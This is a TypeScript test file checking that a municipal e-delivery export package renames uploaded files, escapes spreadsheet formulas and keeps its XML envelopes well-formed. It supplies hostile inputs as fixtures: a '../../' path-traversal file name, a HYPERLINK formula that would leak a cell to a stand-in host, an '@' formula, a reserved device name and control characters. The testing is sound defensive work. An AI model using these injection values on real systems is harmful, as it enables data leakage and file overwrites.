import { describe, expect, it } from 'vitest';
import { strFromU8, unzipSync } from 'fflate';
import { DOMParser } from '@xmldom/xmldom';
import { buildExportPackage, type PackageLetter } from '#core/dispatch/exportPackage';

// The e-delivery package carries text typed from residents' letters and file names from
// uploads: none of it may become a formula in Excel, a path outside the package or a broken
// envelope for the gateway.

const letter = (over: Partial<PackageLetter>): PackageLetter => ({
  number: 'WYCH/7/2026',
  channel: 'epuap',
  addresseeName: 'Jan Kowalski',
  addresseeAddress: 'ul. Polna 5, 00-001 Wieś',
  electronicAddress: '/jkowalski/skrytka',
  subject: 'Decyzja',
  caseSign: 'GK.6730.1.2026',
  dispatchedOn: '2026-12-06',
  fileName: 'decyzja.pdf',
  sha256: 'ab'.repeat(32),
  bytes: new Uint8Array([37, 80, 68, 70]),
  ...over,
});

function parseXml(text: string): string[] {
  const errors: string[] = [];
  try {
    new DOMParser({ onError: (level, m) => level !== 'warning' && errors.push(m) }).parseFromString(text, 'application/xml');
  } catch (e) {
    // xmldom 0.9 stops at a fatal error by throwing, after reporting it.
    if (errors.length === 0) errors.push(String(e));
  }
  return errors;
}

describe('the e-delivery package', () => {
  const zip = unzipSync(
    buildExportPackage(
      { name: 'Urząd Gminy Przykładowa' },
      [
        letter({ fileName: '../../evil.pdf', subject: '=HYPERLINK("http://zle.example/?"&A1;"Kliknij")', addresseeName: '@SUM(1+1)' }),
        letter({ number: 'WYCH/8/2026', fileName: 'CON.pdf', subject: 'Wniosek\u0000 o \u0007zwrot\uFFFE \uD800podatku & <opłaty>' }),
      ],
      new Date('2026-12-06T10:00:00Z'),
    ),
  );

  it('names every file from the register number alone, whatever the stored file name was', () => {
    expect(Object.keys(zip).sort()).toEqual(['001_WYCH-7-2026/WYCH-7-2026.pdf', '001_WYCH-7-2026/koperta.xml', '002_WYCH-8-2026/WYCH-8-2026.pdf', '002_WYCH-8-2026/koperta.xml', 'spis.csv']);
  });

  it('spis.csv keeps a formula typed into a subject as text', () => {
    const list = strFromU8(zip['spis.csv'] ?? new Uint8Array());
    expect(list).toContain(`;"'=HYPERLINK(""http://zle.example/?""&A1;""Kliknij"")";`);
    expect(list).toContain(";'@SUM(1+1);");
    expect(list).not.toMatch(/;=|;@/);
  });

  it('koperta.xml stays well-formed XML 1.0 with control characters and markup in the subject', () => {
    const envelope = strFromU8(zip['002_WYCH-8-2026/koperta.xml'] ?? new Uint8Array());
    expect(parseXml(envelope)).toEqual([]);
    expect(envelope).toContain('<Tytul>Wniosek o zwrot podatku &amp; &lt;opłaty&gt;</Tytul>');
    expect(envelope).toContain('<NazwaPliku>WYCH-8-2026.pdf</NazwaPliku>');
  });
});
